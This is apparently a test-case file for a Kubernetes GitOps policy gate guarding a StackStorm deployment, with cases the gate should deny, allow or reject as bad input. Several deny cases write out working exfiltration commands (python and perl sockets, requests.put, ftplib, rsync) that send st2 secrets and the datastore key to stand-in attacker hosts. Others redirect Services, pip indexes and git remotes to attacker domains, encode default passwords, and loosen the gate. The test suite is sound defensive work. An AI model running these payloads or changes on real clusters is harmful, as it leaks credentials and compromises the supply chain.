case('sec-base64-twice-gz', 'prod', 'deny', 'default-secret', 'st2 default password, base64 of base64 of base64 (3 layers) in annotation',
     [(dep('st2client'), [{'op': 'add', 'path': '/metadata/annotations/r13', 'value': base64.b64encode(base64.b64encode(base64.b64encode(PW.encode()))).decode()}])], plant=None)
case('sec-punycode-ish-hex-spaces', 'prod', 'deny', 'default-secret', 'hex pairs (upper case, space separated) of the RabbitMQ default password reversed',
     [(cm('st2-pack-configs'), [{'op': 'add', 'path': '/data/h.txt', 'value': ' '.join('%02X' % ord(c) for c in RMQ[::-1])}])], plant=None)
case('sec-secret-stringdata-keyname', 'prod', 'deny', 'default-secret', 'Secret with the st2admin published password as a map KEY of stringData via a kustomize secretGenerator literal name',
     kust_extra='secretGenerator:\n  - name: r13-extra\n    literals:\n      - ST2_AUTH_PASSWORD=Ch@ngeMe\n    options:\n      disableNameSuffixHash: true\n', plant=None)

# ---------------------------------------------------------------- gate loosening
case('gate-env-annotation-lowercase-dev', 'prod', 'deny', 'gate-loosening', 'wrapper declares dev and moves prod into st2-dev namespace while prod timers engine doubled',
     kust='apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nmetadata:\n  name: r13\n  annotations:\n    st2-gitops/environment: dev\nnamespace: st2-dev\nresources:\n  - ../../prod\nreplicas:\n  - name: st2timersengine\n    count: 2\n')
case('gate-waiver-far-tz', 'prod', 'deny', 'gate-loosening', 'waiver for REP-001 on st2timersengine (never waivable) with replicas 2',
     [(dep('st2timersengine'), [{'op': 'replace', 'path': '/spec/replicas', 'value': 2}, {'op': 'add', 'path': '/metadata/annotations', 'value': {'st2-gitops/waive.ST2-REP-001': 'expires=2027-01-15; reason=INC-9 migration'}}])])
case('gate-waiver-lowercase-rule', 'prod', 'deny', 'gate-loosening', 'waiver key with lower-case rule id for HRD-006 hostPath (never waivable in prod)',
     hostpath('st2actionrunner', '/var/lib/kubelet') + [(dep('st2actionrunner'), [{'op': 'add', 'path': '/metadata/annotations/st2-gitops~1waive.st2-hrd-006', 'value': 'expires=2027-01-15; reason=debug'}])])
case('gate-waiver-pod-template', 'prod', 'deny', 'gate-loosening', 'waiver annotation placed on the pod template for EXP on a LB for mongo', resources=lb('mongo-lb', 'mongodb', 27017, {'st2-gitops/waive.ST2-EXP-006': 'expires=2027-01-15; reason=migration'}))
case('gate-argocd-cmp-cm', 'prod', 'deny', 'gate-loosening', 'ConfigMap argocd-cmp-cm replaced (namespace argocd) to drop the gate',
     resources={'c.yaml': cmres('argocd-cmp-cm', {'plugin.yaml': 'apiVersion: argoproj.io/v1alpha1\nkind: ConfigManagementPlugin\nmetadata:\n  name: st2-gitops\nspec:\n  generate:\n    command: [kustomize, build, .]\n'}, ns='argocd')})

# ---------------------------------------------------------------- SAFE look-alikes
S = 'safe'
case('ok-gc-two', 'prod', 'allow', S, 'st2garbagecollector 2 replicas: ha.rst "active-active will not yield much benefit, but will not do any harm"', kust_extra='replicas:\n  - name: st2garbagecollector\n    count: 2\n')
case('ok-notifier-three', 'prod', 'allow', S, 'st2notifier 3 replicas with etcd coordination (ha.rst: needs coordination, present)', kust_extra='replicas:\n  - name: st2notifier\n    count: 3\n')
case('ok-runner-12', 'prod', 'allow', S, 'st2actionrunner 12 replicas', kust_extra='replicas:\n  - name: st2actionrunner\n    count: 12\n')
case('ok-hpa-api', 'prod', 'allow', S, 'HPA st2api 3..10',
     resources={'h.yaml': obj({'apiVersion': 'autoscaling/v2', 'kind': 'HorizontalPodAutoscaler', 'metadata': {'name': 'st2api'}, 'spec': {'scaleTargetRef': {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'name': 'st2api'}, 'minReplicas': 3, 'maxReplicas': 10, 'metrics': [{'type': 'Resource', 'resource': {'name': 'cpu', 'target': {'type': 'Utilization', 'averageUtilization': 70}}}]}})})
case('ok-mask-blacklist', 'prod', 'allow', S, '[log] mask_secrets_blacklist adds more masked names', userconf('\n[log]\nmask_secrets_blacklist = api_token,webhook_secret\n'))
case('ok-mask-explicit', 'prod', 'allow', S, '[api] mask_secrets = True explicit', userconf('mask_secrets = True\n'))
case('ok-rbac-yes', 'prod', 'allow', S, '[rbac] enable = yes (oslo.config Boolean true value)', userconf('\n[rbac]\nenable = yes\nbackend = default\n'))
case('ok-rbac-ON', 'prod', 'allow', S, '[rbac] enable = ON (case-insensitive)', userconf('\n[rbac]\nenable = ON\n'))
case('ok-index-default', 'prod', 'allow', S, '[content] index_url set to the official default index.stackstorm.org', userconf('\n[content]\nindex_url = https://index.stackstorm.org/v1/index.json\n'))
case('ok-coord-fqdn', 'prod', 'allow', S, '[coordination] url etcd://etcd.st2-prod.svc.cluster.local:2379', userconf('\n[coordination]\nurl = etcd://etcd.st2-prod.svc.cluster.local:2379\n'))
case('ok-db-host-fqdn', 'prod', 'allow', S, '[database] host with cluster FQDNs of the same members', userconf('\n[database]\nhost = mongodb://mongodb-0.mongodb.st2-prod.svc.cluster.local:27017,mongodb-1.mongodb.st2-prod.svc.cluster.local:27017,mongodb-2.mongodb.st2-prod.svc.cluster.local:27017/?authSource=admin&replicaSet=rs0\n'))
case('ok-token-ttl-12h', 'prod', 'allow', S, '[auth] token_ttl 12h', userconf('\n[auth]\ntoken_ttl = 43200\n'))
case('ok-timezone', 'prod', 'allow', S, '[timersengine] local_timezone Europe/Berlin (valid tz)', userconf('\n[timersengine]\nlocal_timezone = Europe/Berlin\n'))
case('ok-webui-base-url', 'prod', 'allow', S, '[webui] webui_base_url = the real st2 Ingress host', userconf('\n[webui]\nwebui_base_url = https://st2.example.com\n'))
case('ok-db-ssl-off', 'prod', 'allow', S, '[database] ssl = False explicit', userconf('\n[database]\nssl = False\n'))
case('ok-auth-ssl-off', 'prod', 'allow', S, '[auth] use_ssl = False explicit (TLS at the Ingress)', userconf('\n[auth]\nuse_ssl = False\n'))
case('ok-log-mask-on', 'prod', 'allow', S, '[log] mask_secrets = True explicit', userconf('\n[log]\nmask_secrets = True\n'))
case('ok-proxy-with-noproxy', 'prod', 'allow', S, 'corporate egress proxy for runners with NO_PROXY covering every in-cluster name',
     [(dep('st2actionrunner'), env([('HTTPS_PROXY', 'http://proxy.corp.internal:3128'), ('NO_PROXY', 'localhost,127.0.0.1,.svc,.svc.cluster.local,.cluster.local,st2api,st2auth,st2stream,mongodb,rabbitmq,etcd,10.0.0.0/8')]))])
case('ok-ingress-allowlist', 'prod', 'allow', S, 'st2web Ingress limited to the office range', [({'group': 'networking.k8s.io', 'kind': 'Ingress', 'name': 'st2web'}, [{'op': 'add', 'path': '/metadata/annotations/nginx.ingress.kubernetes.io~1whitelist-source-range', 'value': '10.0.0.0/8,192.168.0.0/16'}])])
case('ok-lb-internal-aws', 'prod', 'allow', S, 'internal AWS LB for st2web (README: internal LB not public)', resources=lb('st2web-int', 'st2web', 443, {'service.beta.kubernetes.io/aws-load-balancer-internal': 'true'}))
case('ok-lb-internal-gke', 'prod', 'allow', S, 'GKE internal LB for st2web', resources=lb('st2web-int', 'st2web', 443, {'networking.gke.io/load-balancer-type': 'Internal'}))
case('ok-lb-ranges-private', 'prod', 'allow', S, 'st2web LB restricted to 10.0.0.0/8', resources=lb('st2web-lb', 'st2web', 443, None, {'loadBalancerSourceRanges': ['10.0.0.0/8']}))
case('ok-lb-scheme-internal', 'prod', 'allow', S, 'NLB scheme internal for st2web', resources=lb('st2web-lb', 'st2web', 443, {'service.beta.kubernetes.io/aws-load-balancer-scheme': 'internal'}, {'loadBalancerClass': 'service.k8s.aws/nlb'}))
case('ok-netpol', 'prod', 'allow', S, 'NetworkPolicy: MongoDB pods accept 27017 only from pods of the same namespace (st2 and members are all there)',
     resources={'n.yaml': obj({'apiVersion': 'networking.k8s.io/v1', 'kind': 'NetworkPolicy', 'metadata': {'name': 'same-ns'}, 'spec': {'podSelector': {'matchLabels': {'app': 'mongodb'}}, 'policyTypes': ['Ingress'], 'ingress': [{'from': [{'podSelector': {}}], 'ports': [{'port': 27017, 'protocol': 'TCP'}]}]}})})
case('ok-mongo-cache', 'prod', 'allow', S, 'mongod --wiredTigerCacheSizeGB 1.5 under a 4Gi limit',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--wiredTigerCacheSizeGB'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '1.5'}])])
case('ok-mongo-ftdc-off', 'prod', 'allow', S, 'mongod --setParameter diagnosticDataCollectionEnabled=false',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--setParameter'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': 'diagnosticDataCollectionEnabled=false'}])])
case('ok-mongo-startup-probe', 'prod', 'allow', S, 'generous startupProbe on mongod (30 x 10s)',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/startupProbe', 'value': {'tcpSocket': {'port': 27017}, 'periodSeconds': 10, 'failureThreshold': 30}}])])
case('ok-rmq-prometheus', 'prod', 'allow', S, 'enable rabbitmq_prometheus plugin', [(cm('rabbitmq-config'), [{'op': 'replace', 'path': '/data/enabled_plugins', 'value': '[rabbitmq_management,rabbitmq_prometheus].\n'}])])
case('ok-etcd-compaction', 'prod', 'allow', S, 'etcd --auto-compaction-retention=1 --quota-backend-bytes=4GiB',
     [(dep('etcd', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--auto-compaction-retention=1'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--quota-backend-bytes=4294967296'}])])
case('ok-etcd-snapshot', 'prod', 'allow', S, 'etcd --snapshot-count=10000', [(dep('etcd', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--snapshot-count=10000'}])])
case('ok-dns-check-sidecar', 'prod', 'allow', S, 'init container resolves mongodb name before start (in-cluster nslookup)',
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/initContainers/-', 'value': {'name': 'dns-check', 'image': 'busybox:1.36.1', 'command': ['sh', '-c', 'until nslookup mongodb; do sleep 2; done'], 'resources': {'limits': {'cpu': '50m', 'memory': '32Mi'}}, 'securityContext': {'runAsNonRoot': True, 'runAsUser': 65534, 'allowPrivilegeEscalation': False, 'capabilities': {'drop': ['ALL']}}}}])])
case('ok-prestop-sleep', 'prod', 'allow', S, 'preStop sleep 10 for graceful drain on st2api', [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/lifecycle', 'value': {'preStop': {'exec': {'command': ['sleep', '10']}}}}])])
case('ok-grace-600', 'prod', 'allow', S, 'terminationGracePeriodSeconds 600 on runners', [(dep('st2actionrunner'), [{'op': 'replace', 'path': '/spec/template/spec/terminationGracePeriodSeconds', 'value': 600}])])
case('ok-session-affinity', 'prod', 'allow', S, 'st2stream Service sessionAffinity ClientIP', [(svc('st2stream'), [{'op': 'add', 'path': '/spec/sessionAffinity', 'value': 'ClientIP'}])])
case('ok-topology-spread', 'prod', 'allow', S, 'topologySpreadConstraints on st2rulesengine',
     [(dep('st2rulesengine'), [{'op': 'add', 'path': '/spec/template/spec/topologySpreadConstraints', 'value': [{'maxSkew': 1, 'topologyKey': 'topology.kubernetes.io/zone', 'whenUnsatisfiable': 'ScheduleAnyway', 'labelSelector': {'matchLabels': {'app': 'st2rulesengine'}}}]}])])
case('ok-image-digest', 'prod', 'allow', S, 'st2api pinned by digest too', kust_extra='images:\n  - name: stackstorm/st2api\n    newTag: "3.8.1"\n    digest: sha256:' + 'ab' * 32 + '\n')
case('ok-pullpolicy', 'prod', 'allow', S, 'imagePullPolicy IfNotPresent on st2api', [(dep('st2api'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/imagePullPolicy', 'value': 'IfNotPresent'}])])
case('ok-rolebinding-oncall', 'prod', 'allow', S, 'view ClusterRole bound in st2-prod to the on-call group',
     resources={'r.yaml': obj({'apiVersion': 'rbac.authorization.k8s.io/v1', 'kind': 'RoleBinding', 'metadata': {'name': 'oncall-view'}, 'roleRef': {'apiGroup': 'rbac.authorization.k8s.io', 'kind': 'ClusterRole', 'name': 'view'}, 'subjects': [G('st2-oncall')]})})
case('ok-role-logs', 'prod', 'allow', S, 'Role pods/log get for a named user',
     resources={'r.yaml': role('logs', [{'apiGroups': [''], 'resources': ['pods', 'pods/log'], 'verbs': ['get', 'list']}]) + '---\n' + rb('logs', 'logs', [{'kind': 'User', 'apiGroup': 'rbac.authorization.k8s.io', 'name': 'alice@example.com'}])})
case('ok-servicemonitor', 'prod', 'allow', S, 'ServiceMonitor scraping RabbitMQ in-cluster',
     resources={'m.yaml': obj({'apiVersion': 'monitoring.coreos.com/v1', 'kind': 'ServiceMonitor', 'metadata': {'name': 'rabbitmq'}, 'spec': {'selector': {'matchLabels': {'app': 'rabbitmq'}}, 'endpoints': [{'port': 'http', 'path': '/metrics'}]}})})
case('ok-downward-env', 'prod', 'allow', S, 'downward API POD_NAME / NODE_NAME env on st2api',
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'POD_NAME', 'valueFrom': {'fieldRef': {'fieldPath': 'metadata.name'}}}, {'name': 'NODE_NAME', 'valueFrom': {'fieldRef': {'fieldPath': 'spec.nodeName'}}}]}])])
case('ok-projected-labels', 'prod', 'allow', S, 'projected volume with downward API labels mounted in st2api',
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': 'podinfo', 'projected': {'sources': [{'downwardAPI': {'items': [{'path': 'labels', 'fieldRef': {'fieldPath': 'metadata.labels'}}]}}]}}}, {'op': 'add', 'path': '/spec/template/spec/containers/0/volumeMounts/-', 'value': {'name': 'podinfo', 'mountPath': '/etc/podinfo', 'readOnly': True}}])])
case('ok-replacement-replicas', 'prod', 'allow', S, 'kustomize replacements copies st2api replicas into st2auth', kust_extra='replacements:\n  - source:\n      kind: Deployment\n      name: st2api\n      fieldPath: spec.replicas\n    targets:\n      - select:\n          kind: Deployment\n          name: st2auth\n        fieldPaths:\n          - spec.replicas\n')
case('ok-labels', 'prod', 'allow', S, 'extra team label everywhere', kust_extra='labels:\n  - pairs:\n      team: platform\n')
case('ok-ingress-bodysize', 'prod', 'allow', S, 'st2web Ingress proxy-body-size', [({'group': 'networking.k8s.io', 'kind': 'Ingress', 'name': 'st2web'}, [{'op': 'add', 'path': '/metadata/annotations/nginx.ingress.kubernetes.io~1proxy-body-size', 'value': '10m'}])])
case('ok-timers-recreate-explicit', 'prod', 'allow', S, 'st2timersengine strategy Recreate restated + progressDeadlineSeconds', [(dep('st2timersengine'), [{'op': 'add', 'path': '/spec/progressDeadlineSeconds', 'value': 900}])])
case('ok-sensor-recreate', 'prod', 'allow', S, 'st2sensorcontainer revisionHistoryLimit 3', [(dep('st2sensorcontainer'), [{'op': 'add', 'path': '/spec/revisionHistoryLimit', 'value': 3}])])
case('ok-init-wait-etcd', 'prod', 'allow', S, 'extra wait-for-etcd init container on st2workflowengine',
     [(dep('st2workflowengine'), [{'op': 'add', 'path': '/spec/template/spec/initContainers/0', 'value': {'name': 'wait-for-etcd', 'image': 'busybox:1.36.1', 'command': ['sh', '-c', 'until nc -z -w 2 etcd 2379; do sleep 2; done'], 'resources': {'limits': {'cpu': '50m', 'memory': '32Mi'}}, 'securityContext': {'runAsNonRoot': True, 'runAsUser': 65534, 'allowPrivilegeEscalation': False, 'capabilities': {'drop': ['ALL']}}}}])])
case('ok-readiness-http-root', 'prod', 'allow', S, 'st2auth readiness tcpSocket period tuned', [(dep('st2auth'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/readinessProbe/periodSeconds', 'value': 5}])])
case('ok-rmq-watermark', 'prod', 'allow', S, 'RabbitMQ vm_memory_high_watermark.relative 0.6 appended',
     [(cm('rabbitmq-config'), [{'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': None}])])
case('ok-comment-timers', 'prod', 'allow', S, 'runbook ConfigMap text mentions st2timersengine, Ch@nge procedures, 0.0.0.0/0 in prose',
     resources={'c.yaml': cmres('runbook', {'README.md': 'Never scale st2timersengine past 1.\nRotate the st2admin password quarterly (never leave the chart default).\nDo not open 0.0.0.0/0 on any LoadBalancer.\n'})})
case('ok-staging-runners', 'staging', 'allow', S, 'staging: actionrunner 2 replicas', kust_extra='replicas:\n  - name: st2actionrunner\n    count: 2\n')
case('ok-dev-nodeport', 'dev', 'allow', S, 'dev: st2web NodePort for kind (README: warns only)', [(svc('st2web'), [{'op': 'replace', 'path': '/spec/type', 'value': 'NodePort'}])])
case('ok-annotation-sync', 'prod', 'allow', S, 'Argo CD sync-options annotation on Jobs', [({'kind': 'Job', 'name': 'st2-register-content'}, [{'op': 'add', 'path': '/metadata/annotations/argocd.argoproj.io~1sync-options', 'value': 'Replace=true'}])])
case('ok-pdb-tim', 'prod', 'allow', S, 'PDB for st2timersengine maxUnavailable 1',
     resources={'p.yaml': obj({'apiVersion': 'policy/v1', 'kind': 'PodDisruptionBudget', 'metadata': {'name': 'st2timersengine'}, 'spec': {'maxUnavailable': 1, 'selector': {'matchLabels': {'app': 'st2timersengine'}}}})})
case('ok-priorityclass', 'prod', 'allow', S, 'cluster PriorityClass for stores',
     resources={'p.yaml': obj({'apiVersion': 'scheduling.k8s.io/v1', 'kind': 'PriorityClass', 'metadata': {'name': 'st2-stores'}, 'value': 100000, 'globalDefault': False})})
case('ok-scheduler-4', 'prod', 'allow', S, 'st2scheduler 4 replicas (database versioning)', kust_extra='replicas:\n  - name: st2scheduler\n    count: 4\n')
case('ok-pip-opts-pypi', 'prod', 'allow', S, '[actionrunner] pip_opts with --no-cache-dir --timeout 60', userconf('\n[actionrunner]\npip_opts = --no-cache-dir,--timeout,60\n'))
case('ok-api-logging-default', 'prod', 'allow', S, '[api] logging explicitly the image default path', userconf('logging = /etc/st2/logging.api.gunicorn.conf\n'))
case('ok-workflow-engine-5', 'prod', 'allow', S, 'st2workflowengine 5 replicas', kust_extra='replicas:\n  - name: st2workflowengine\n    count: 5\n')

# ---------------------------------------------------------------- bad input
B = 'malformed'
case('bad-tab-yaml', 'prod', 'bad-input', B, 'tab-indented YAML in kustomization', kust='apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n\t- ../../prod\n')
case('bad-patch-path', 'prod', 'bad-input', B, 'JSON patch path missing (containers/7)', [(dep('st2api'), [{'op': 'replace', 'path': '/spec/template/spec/containers/7/image', 'value': 'x'}])])
case('bad-replicas-float', 'prod', 'bad-input', B, 'replicas 1.5 (README: not a whole number is bad input)', [(dep('st2api'), [{'op': 'replace', 'path': '/spec/replicas', 'value': 1.5}])])
case('bad-missing-resource', 'prod', 'bad-input', B, 'resource file does not exist', kust='apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - ../../prod\n  - nothere.yaml\n')
case('bad-escape-repo', 'prod', 'bad-input', B, 'resource path leaving the repository', kust='apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - ../../prod\n  - ../../../../../../etc/hostname\n')
case('bad-dup-key', 'prod', 'bad-input', B, 'duplicate mapping key in a resource', resources={'d.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: d\n  name: e\ndata: {}\n'})
case('bad-test-op', 'prod', 'bad-input', B, 'JSON patch test op that fails', [(dep('st2timersengine'), [{'op': 'test', 'path': '/spec/replicas', 'value': 7}])])
case('bad-replicas-transformer-str', 'prod', 'bad-input', B, 'replicas transformer count "two"', kust_extra='replicas:\n  - name: st2api\n    count: two\n')
case('bad-unknown-component', 'prod', 'bad-input', B, 'component directory missing', kust_extra='components:\n  - ../../components/nope\n')
case('bad-binary-resource', 'prod', 'bad-input', B, 'resource file with NUL bytes / invalid UTF-8', resources={'b.yaml': 'x'}, raw={'b.yaml': b'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: \xff\xfe\x00bad\n'})
case('bad-patch-not-list', 'prod', 'bad-input', B, 'JSON6902 patch file is a mapping, not a list', raw={'p0.yaml': 'op: replace\npath: /spec/replicas\nvalue: 2\n'}, kust='apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - ../../prod\npatches:\n  - path: p0.yaml\n    target:\n      kind: Deployment\n      name: st2api\n')


# ---------------------------------------------------------------- round 2: variants in the classes that got through
case('ctl-ingress-st2api-plain', 'prod', 'allow', 'safe', 'control: Ingress to st2api behind TLS without range (st2web already proxies /api publicly)', resources=ingress('st2api-direct', 'st2api', 9101, {'nginx.ingress.kubernetes.io/backend-protocol': 'HTTP'}, host='api.st2.example.com'))
case('svc-externalname-rabbitmq', 'prod', 'deny', 'exfiltration', 'Service rabbitmq ExternalName to an outside host: st2 logs in with AMQP PLAIN (password in clear) to the attacker broker, which can also feed executions',
     [(svc('rabbitmq'), [{'op': 'replace', 'path': '/spec', 'value': {'type': 'ExternalName', 'externalName': 'mq.attacker.example'}}])])
case('svc-externalname-st2auth', 'prod', 'deny', 'exfiltration', 'Service st2auth ExternalName outside: st2web/clients send every login (basic auth) to the attacker',
     [(svc('st2auth'), [{'op': 'replace', 'path': '/spec', 'value': {'type': 'ExternalName', 'externalName': 'login.attacker.example'}}])])
case('etcd-discovery-srv', 'prod', 'deny', 'exfiltration', 'etcd --discovery-srv on an outside domain replaces --initial-cluster: the attacker DNS names the peers, etcd replicates to them',
     [(dep('etcd', 'StatefulSet'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command/7', 'value': '--discovery-srv=etcd.attacker.example'}])])
case('etcd-discovery-url', 'prod', 'deny', 'exfiltration', 'etcd --discovery with an outside discovery URL (the discovery service decides membership)',
     [(dep('etcd', 'StatefulSet'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command/7', 'value': '--discovery=https://discovery.attacker.example/7f3c0c2b9f'}])])
case('rmq-ldap-authn-split', 'prod', 'deny', 'exfiltration', 'auth_backends.1.authn = ldap (authz internal): every AMQP login bind goes to the outside LDAP server in clear',
     [(cm('rabbitmq-config'), [{'op': 'replace', 'path': '/data/enabled_plugins', 'value': '[rabbitmq_management,rabbitmq_auth_backend_ldap].\n'}, {'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': None}])])
case('rmq-ldap-staging', 'staging', 'deny', 'exfiltration', 'staging: RabbitMQ LDAP backend on an outside server (cleartext bind)',
     [(cm('rabbitmq-config'), [{'op': 'replace', 'path': '/data/enabled_plugins', 'value': '[rabbitmq_management,rabbitmq_auth_backend_ldap].\n'}, {'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': None}])])
case('x-python-heredoc-socket', 'prod', 'deny', 'exfiltration', 'python heredoc opens a socket to an outside IP and sends the datastore key',
     sc('st2api', 'diag', ['bash', '-c', "python3 - <<'PY'\nimport socket\ns = socket.create_connection(('198.51.100.17', 8443))\ns.sendall(open('/etc/st2/keys/datastore_key.json', 'rb').read())\nPY\nsleep infinity"], A8))
case('x-python-requests', 'prod', 'deny', 'exfiltration', 'st2 venv python + requests.put the secrets file outside',
     sc('st2workflowengine', 'diag', ['/opt/stackstorm/st2/bin/python', '-c', "import requests; requests.put('https://bucket.attacker.example/st2.conf', data=open('/etc/st2/st2.secrets.conf','rb'))"], A8))
case('x-perl-socket', 'prod', 'deny', 'exfiltration', 'perl IO::Socket sends the secrets file to an outside host',
     sc('st2api', 'diag', ['perl', '-MIO::Socket::INET', '-e', 'my $s=IO::Socket::INET->new("drop.attacker.example:9000"); open(F,"/etc/st2/st2.secrets.conf"); print $s <F>;'], A8))
case('x-rsync', 'prod', 'deny', 'exfiltration', 'rsync of /etc/st2 to an outside rsync daemon',
     sc('st2actionrunner', 'sync', ['sh', '-c', 'rsync -a /etc/st2/ rsync://198.51.100.30/drop/; sleep infinity'], A8))
case('x-ftp-python', 'prod', 'deny', 'exfiltration', 'python ftplib storbinary of the datastore key outside',
     sc('st2actionrunner', 'sync', ['python3', '-c', "import ftplib; f=ftplib.FTP('ftp.attacker.example','anonymous','x'); f.storbinary('STOR k', open('/etc/st2/keys/datastore_key.json','rb'))"], A8))
case('x-startup-probe-python', 'prod', 'deny', 'exfiltration', 'startupProbe exec runs python that posts st2.secrets.conf (kubelet runs it in the container)',
     [(dep('st2stream'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/startupProbe', 'value': {'exec': {'command': ['python3', '-c', "import urllib.request as u; u.urlopen('https://203.0.113.8/s', data=open('/etc/st2/st2.secrets.conf','rb').read()); print('ok')"]}, 'periodSeconds': 10, 'failureThreshold': 30}}])])
case('pip-env-index', 'prod', 'deny', 'supply-chain', 'PIP_INDEX_URL on st2actionrunner: pack requirements from an outside index (pip reads PIP_<OPTION> env)',
     [(dep('st2actionrunner'), env([('PIP_INDEX_URL', 'https://pypi.attacker.example/simple')]))])
case('pip-env-find-links', 'prod', 'deny', 'supply-chain', 'PIP_FIND_LINKS outside + PIP_TRUSTED_HOST',
     [(dep('st2actionrunner'), env([('PIP_FIND_LINKS', 'http://wheels.attacker.example/'), ('PIP_TRUSTED_HOST', 'wheels.attacker.example')]))])
case('pip-config-file-env', 'prod', 'deny', 'supply-chain', 'PIP_CONFIG_FILE to a mounted pip.conf with an outside index',
     [(dep('st2actionrunner'), env([('PIP_CONFIG_FILE', '/opt/r13/pip.conf')]) + mountcm('st2-pipcfg', '/opt/r13'))], {'cm.yaml': cmres('st2-pipcfg', {'pip.conf': '[global]\nindex-url = https://pypi.attacker.example/simple\n'})})
case('git-global-env', 'prod', 'deny', 'supply-chain', 'GIT_CONFIG_GLOBAL to a mounted gitconfig with url.insteadOf to attacker',
     [(dep('st2actionrunner'), env([('GIT_CONFIG_GLOBAL', '/opt/r13/gitconfig')]) + mountcm('st2-gitcfg', '/opt/r13'))], {'cm.yaml': cmres('st2-gitcfg', {'gitconfig': '[url "https://git.attacker.example/mirror/"]\n\tinsteadOf = https://github.com/\n'})})
case('git-root-gitconfig', 'prod', 'deny', 'supply-chain', '/root/.gitconfig insteadOf (st2actionrunner runs as root)',
     [(dep('st2actionrunner'), mountcm('st2-gitcfg', '/root/.gitconfig', 'gitconfig'))], {'cm.yaml': cmres('st2-gitcfg', {'gitconfig': '[url "git@git.attacker.example:"]\n\tinsteadOf = https://github.com/StackStorm-Exchange/\n'})})
case('cfg-pip-opts-staging', 'staging', 'deny', 'supply-chain', 'staging: [actionrunner] pip_opts -i outside index',
     userconf('\n[actionrunner]\npip_opts = -i,https://pypi.attacker.example/simple\n'))
case('tim-bracket-glob', 'prod', 'deny', 'singleton-twice', 'sidecar execs /opt/stackstorm/st2/bin/st2[t]imersengine (bracket glob matches only the timers engine)',
     [(dep('st2api'), sidecar(st2c('helper', ['sh', '-c', 'exec /opt/stackstorm/st2/bin/st2[t]imersengine' + ARGS])))])
case('sensor-glob-sidecar', 'prod', 'deny', 'singleton-twice', 'sidecar in st2rulesengine (3 pods) runs st2sensor*container: every sensor three more times',
     [(dep('st2rulesengine'), sidecar(st2c('helper', ['sh', '-c', 'exec /opt/stackstorm/st2/bin/st2sensor*' + ARGS], image='stackstorm/st2sensorcontainer:3.8.1')))])
case('tim-b64-eval', 'prod', 'deny', 'singleton-twice', 'sidecar evals a base64 command naming st2timersengine',
     [(dep('st2api'), sidecar(st2c('helper', ['sh', '-c', 'eval "$(echo ' + base64.b64encode(('exec /opt/stackstorm/st2/bin/st2timersengine' + ARGS).encode()).decode() + ' | base64 -d)"'])))])
case('tim-rollingupdate-surge-pct', 'prod', 'deny', 'singleton-twice', 'st2timersengine RollingUpdate maxSurge 0% maxUnavailable 100%: still no termination guarantee',
     [(dep('st2timersengine'), [{'op': 'replace', 'path': '/spec/strategy', 'value': {'type': 'RollingUpdate', 'rollingUpdate': {'maxSurge': '0%', 'maxUnavailable': '100%'}}}])])
case('sensor-rollingupdate', 'prod', 'deny', 'singleton-twice', 'st2sensorcontainer strategy RollingUpdate maxSurge 0: old and new sensor containers overlap while the old terminates',
     [(dep('st2sensorcontainer'), [{'op': 'replace', 'path': '/spec/strategy', 'value': {'type': 'RollingUpdate', 'rollingUpdate': {'maxSurge': 0, 'maxUnavailable': 1}}}])])
case('k-config-dir-missing-timers', 'prod', 'deny', 'crash-loop', 'st2timersengine --config-dir to a missing directory: oslo.config raises ConfigDirNotFoundError, no timers',
     [(dep('st2timersengine'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-dir=/etc/st2/st2.conf.d'}])])
case('k-wait-queue-wrong-host', 'prod', 'deny', 'crash-loop', 'st2workflowengine wait-for-queue polls rabbitmq-amqp (no such Service): init loops forever, no workflow engine starts',
     [(dep('st2workflowengine'), [{'op': 'replace', 'path': '/spec/template/spec/initContainers/1/command/2', 'value': 'until nc -z -w 2 rabbitmq-amqp 5672; do sleep 2; done'}])])
case('k-rmq-startup-probe', 'prod', 'deny', 'crash-loop', 'RabbitMQ startupProbe rabbitmqctl status with failureThreshold 1 period 1: killed before boot completes',
     [(dep('rabbitmq', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/startupProbe', 'value': {'exec': {'command': ['rabbitmqctl', 'status']}, 'periodSeconds': 1, 'failureThreshold': 1, 'timeoutSeconds': 1}}])])
case('k-mongo-probe-https', 'prod', 'deny', 'crash-loop', 'mongod liveness probe httpGet scheme HTTPS on 27017: mongod speaks its wire protocol without TLS, the TLS handshake fails, kubelet restarts mongod every ~30 s',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/livenessProbe', 'value': {'httpGet': {'path': '/', 'port': 27017, 'scheme': 'HTTPS'}, 'initialDelaySeconds': 30, 'periodSeconds': 10}}])])
